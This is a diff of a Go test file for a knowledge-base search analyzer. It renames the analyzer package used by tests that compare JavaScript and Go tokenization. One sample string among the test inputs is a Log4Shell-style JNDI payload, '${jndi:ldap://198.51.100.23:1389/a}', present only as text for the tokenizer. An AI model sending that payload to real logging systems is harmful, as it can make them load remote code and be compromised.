@@ -20,6 +20,7 @@ import (
 	porterstemmer "github.com/blevesearch/go-porterstemmer"
 
 	"github.com/hindsight-kb/hindsight/search"
+	textan "github.com/hindsight-kb/hindsight/search/analysis"
 	"github.com/hindsight-kb/hindsight/site/kb"
 	"github.com/hindsight-kb/hindsight/site/kbtest"
 )
@@ -45,7 +46,7 @@ yy y by say sayings enjoying eed ied ies sses ss s ing ed ying xyz ay aying logi
 x509 2023 0x4be1 acme.com t1566.001 naïve café résumé straße`)
 
 // identifierTexts hold identifiers of each kind the analyzer indexes
-// whole and by parts (search.English), for TestJSAnalysisAgreesWithGo.
+// whole and by parts (textan.English), for TestJSAnalysisAgreesWithGo.
 var identifierTexts = []string{
 	"probe ${jndi:ldap://198.51.100.23:1389/a} from 203.0.113.7, see https://status.acme.com/incidents/42?x=1.",
 	"mail oncall@example.org; arn:aws:s3:::bucket-name/key and arn:aws:iam::123456789012:role/Deploy_Role",
@@ -73,7 +74,7 @@ func TestJSAnalysisAgreesWithGo(t *testing.T) {
 	for _, text := range identifierTexts {
 		docs = append(docs, search.Doc{Body: text})
 	}
-	a, err := search.NewAnalyzer()
+	a, err := textan.NewAnalyzer()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -86,7 +87,7 @@ func TestJSAnalysisAgreesWithGo(t *testing.T) {
 		Nums    [][2]any    `json:"nums"`
 		Dates   [2]any      `json:"dates"`
 	}
-	c := cases{Stop: search.StopWords()}
+	c := cases{Stop: textan.StopWords()}
 	words := map[string]bool{}
 	for _, w := range extraWords {
 		words[w] = true
@@ -100,7 +101,7 @@ func TestJSAnalysisAgreesWithGo(t *testing.T) {
 				words[w] = true
 			}
 			var toks [][2]any
-			for _, t := range search.Analyze(a, text) {
+			for _, t := range textan.Analyze(a, text) {
 				toks = append(toks, [2]any{t.Term, t.Position})
 			}
 			if toks == nil {
@@ -587,7 +588,7 @@ func TestExportTerms(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	a, err := search.NewNumberingEnglish()
+	a, err := textan.NewNumberingEnglish()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -625,7 +626,7 @@ func TestExportTerms(t *testing.T) {
 	if _, ok := got[len(docs)-1]; ok {
 		t.Error("the document of a repeated ID was given")
 	}
-	e, err := search.NewEnglish()
+	e, err := textan.NewEnglish()
 	if err != nil {
 		t.Fatal(err)
 	}
